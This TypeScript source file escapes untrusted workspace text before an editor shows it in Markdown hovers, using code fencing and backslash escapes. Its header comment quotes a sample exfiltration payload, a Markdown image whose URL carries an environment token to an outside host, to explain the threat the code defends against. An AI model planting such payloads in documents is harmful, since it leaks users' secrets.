/**
 * Text from a workspace in hovers: a stranger's file must not be able to render Markdown there. An image
 * or link in a hover is fetched or offered as soon as it shows, so a value such as
 * `` `![x](https://host/?{{$processEnv TOKEN}})` `` would send a secret where the file says. Every
 * piece of text that comes from a document, an env file or IAM goes through one of these two.
 */

/** Longest text of a value shown in a hover; longer values are cut with an ellipsis. */
export const MAX_SHOWN_LENGTH = 500;

const shorten = (text: string) => (text.length > MAX_SHOWN_LENGTH ? `${text.slice(0, MAX_SHOWN_LENGTH)}…` : text);

/** Line breaks as a visible mark: inside a code span a blank line would end it and start Markdown again. */
const oneLine = (text: string) => text.replace(/\r\n|[\r\n\u2028\u2029]/g, ' ↵ ');

/**
 * A value as inline code whose fence is longer than any run of backticks inside it (CommonMark §6.1),
 * padded with a space where it starts or ends with a backtick or space, so nothing in it can close it.
 */
export function inlineCode(value: string): string {
  const text = oneLine(shorten(value));
  let longest = 0;
  let run = 0;
  for (const ch of text) {
    run = ch === '`' ? run + 1 : 0;
    // Stryker disable next-line EqualityOperator: a maximum: taking an equal run changes nothing (bench/mutation/survivors.md)
    if (run > longest) longest = run;
  }
  const fence = '`'.repeat(longest + 1);
  const pad = text.startsWith('`') || text.endsWith('`') || text.startsWith(' ') || text.endsWith(' ') || text === '' ? ' ' : '';
  return `${fence}${pad}${text}${pad}${fence}`;
}

/**
 * Plain text with what could make Markdown of it backslash-escaped (CommonMark §2.4): code spans,
 * emphasis, links and images (`[`, `]`), HTML and autolinks (`<`, `>`), tables, a heading at the
 * start, and GFM's bare autolinks (`https\://`, `www\.`, `a\@b` are not links). Colons, dots, dashes,
 * underscores, parentheses and braces stay as they are: `ims:images:list`, `{{name}}` and file names
 * read as written in the raw text too.
 */
export function escapeMarkdown(text: string): string {
  return oneLine(shorten(text))
    .replace(/[\\`*[\]<>|]/g, '\\$&')
    .replace(/^#/, '\\#')
    .replace(/:(?=\/\/)/g, '\\:')
    .replace(/(?<=\w)@(?=\w)/g, '\\@')
    .replace(/\b(www)\./gi, '$1\\.');
}
